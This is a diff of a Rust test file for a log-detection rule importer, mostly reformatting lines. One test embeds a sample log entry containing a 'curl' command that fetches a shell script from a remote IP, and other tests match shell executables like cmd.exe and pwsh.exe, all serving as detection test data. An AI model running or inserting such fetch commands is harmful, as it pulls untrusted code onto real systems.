@@ -15,7 +15,9 @@ fn imported(detection: &str) -> Ruleset {
     if !imported.notes.is_empty() {
         // What a regex asks for is not made up: the team adds it.
         toml.push_str("  [[rule.hit]]\n  text = '{\"time\":\"2024-03-15T10:00:00Z\",\"msg\":\"x\",\"cmd\":\"curl -s http://203.0.113.9/a.sh\"}'\n");
-        toml.push_str("  [[rule.miss]]\n  text = '{\"time\":\"2024-03-15T10:00:00Z\",\"msg\":\"y\"}'\n");
+        toml.push_str(
+            "  [[rule.miss]]\n  text = '{\"time\":\"2024-03-15T10:00:00Z\",\"msg\":\"y\"}'\n",
+        );
     }
     let rules = load(&[RuleFile { path: "odd.toml".into(), source: toml.clone() }]).unwrap();
     let (count, failures) = examples::run(&rules);
@@ -32,8 +34,7 @@ fn taken(detection: &str, lines: &[&str]) -> Vec<bool> {
         .map(|(at, line)| format!("{{\"time\":\"2024-03-15T10:{at:02}:00Z\",{line}}}\n"))
         .collect();
     let harvest = map_text("odd.json", text.concat().as_bytes(), &rules, &Options::default());
-    let hit: Vec<u64> =
-        harvest.events.iter().map(|event| event.evidence[0].origin.line).collect();
+    let hit: Vec<u64> = harvest.events.iter().map(|event| event.evidence[0].origin.line).collect();
     (1..).zip(lines).map(|(line, _)| hit.contains(&line)).collect()
 }
 
@@ -76,10 +77,8 @@ fn a_regex_is_taken_as_it_stands() {
 fn endings_are_those_of_the_whole_value() {
     let detection =
         "  s:\n    image|endswith:\n      - '\\cmd.exe'\n      - '\\pwsh.exe'\n  condition: s\n";
-    let lines = [
-        r#""msg":"run","image":"C:\\bin\\PWSH.exe""#,
-        r#""msg":"run","image":"C:\\cmd.exe.bak""#,
-    ];
+    let lines =
+        [r#""msg":"run","image":"C:\\bin\\PWSH.exe""#, r#""msg":"run","image":"C:\\cmd.exe.bak""#];
     assert_eq!(taken(detection, &lines), [true, false]);
 }
 
@@ -112,11 +111,7 @@ fn a_filter_takes_out_what_it_names_whole() {
 fn presence_with_a_filter_fires_only_where_the_field_is() {
     let detection = "  s:\n    target|exists: true\n  filter:\n    target|startswith: test-\n  \
                      condition: s and not filter\n";
-    let lines = [
-        r#""msg":"x","target":"db-1""#,
-        r#""msg":"x","target":"test-1""#,
-        r#""msg":"x""#,
-    ];
+    let lines = [r#""msg":"x","target":"db-1""#, r#""msg":"x","target":"test-1""#, r#""msg":"x""#];
     assert_eq!(taken(detection, &lines), [true, false, false]);
 }
 
@@ -146,7 +141,10 @@ fn the_message_is_found_whatever_it_is_called() {
 #[test]
 fn what_has_no_like_is_refused_with_its_way_out() {
     let told = [
-        ("count|gte: 5", "the modifier `gte` of `count`; numbers are not compared here; write a `re`"),
+        (
+            "count|gte: 5",
+            "the modifier `gte` of `count`; numbers are not compared here; write a `re`",
+        ),
         (
             "ip|cidr: 10.1.0.0/16",
             "the modifier `cidr` of `ip`; write the addresses as wildcards, such as `10.1.*`",
